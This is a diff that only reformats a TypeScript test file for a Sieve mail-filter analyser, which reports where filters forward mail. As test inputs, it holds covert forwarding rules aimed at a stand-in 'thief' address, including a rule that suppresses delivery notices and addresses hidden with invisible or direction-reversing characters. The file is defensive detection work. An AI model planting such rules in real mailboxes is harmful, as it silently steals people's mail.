@@ -11,7 +11,8 @@ const leadsTo = (text: string) => tell(text).targets.map(({ address }) => addres
 describe('where a filter leads', () => {
   it('is told for each way in which the standard lets an address be written', () => {
     const marked = '\uFEFFredirect "thief@elsewhere.example";'
-    const dsn = 'require ["redirect-dsn"]; redirect :notify "NEVER" :ret "HDRS" "thief@elsewhere.example";'
+    const dsn =
+      'require ["redirect-dsn"]; redirect :notify "NEVER" :ret "HDRS" "thief@elsewhere.example";'
     for (const script of [...disguisedRedirects, marked, dsn]) {
       assert.deepEqual(leadsTo(script), ['thief@elsewhere.example'], script)
       assert.equal(tell(script).clear, true, script)
@@ -19,7 +20,8 @@ describe('where a filter leads', () => {
   })
 
   it('is told for every address, and whether a letter stays', () => {
-    const script = 'redirect "one@a.example"; redirect :copy "two@a.example"; redirect :copy "two@a.example";'
+    const script =
+      'redirect "one@a.example"; redirect :copy "two@a.example"; redirect :copy "two@a.example";'
     assert.deepEqual(tell(script).targets, [
       { address: 'one@a.example', how: 'forward' },
       { address: 'two@a.example', how: 'copy' },
@@ -30,8 +32,14 @@ describe('where a filter leads', () => {
 
   it('is told for the scripts that it includes, and what is missing of them is no secret', () => {
     const main = { name: 'main', text: 'require "include"; include :personal "helper";' }
-    const both = describeFilter([main, { name: 'helper', text: 'redirect "thief@elsewhere.example";' }])
-    assert.deepEqual([both.targets.map(({ address }) => address), both.clear], [['thief@elsewhere.example'], true])
+    const both = describeFilter([
+      main,
+      { name: 'helper', text: 'redirect "thief@elsewhere.example";' },
+    ])
+    assert.deepEqual(
+      [both.targets.map(({ address }) => address), both.clear],
+      [['thief@elsewhere.example'], true],
+    )
     assert.equal(describeFilter([main]).clear, false)
     assert.equal(tell('require "include"; include :global "main";').clear, false)
   })
@@ -46,7 +54,10 @@ redirect "d@x.example";
 .
  { stop; }`
     const { commands, whole } = readSieve(script)
-    assert.deepEqual([whole, commands.map(({ name }) => name)], [true, ['if', 'keep', 'if', 'stop']])
+    assert.deepEqual(
+      [whole, commands.map(({ name }) => name)],
+      [true, ['if', 'keep', 'if', 'stop']],
+    )
     assert.deepEqual(commands[2]?.strings, ['subject', 'redirect "d@x.example";\n.\n'])
     assert.deepEqual(leadsTo(script), [])
   })
@@ -66,8 +77,12 @@ redirect "d@x.example";
   })
 
   it('shows signs that hide or turn an address as what they are', () => {
-    assert.deepEqual(leadsTo('redirect "thief\u202e@elp\u200bmaxe.example";'), ['thief\uFFFD@elp\uFFFDmaxe.example'])
-    assert.deepEqual(leadsTo('require "enotify"; notify "mailto:a%0Db@x.example";'), ['a b@x.example'])
+    assert.deepEqual(leadsTo('redirect "thief\u202e@elp\u200bmaxe.example";'), [
+      'thief\uFFFD@elp\uFFFDmaxe.example',
+    ])
+    assert.deepEqual(leadsTo('require "enotify"; notify "mailto:a%0Db@x.example";'), [
+      'a b@x.example',
+    ])
   })
 })
 
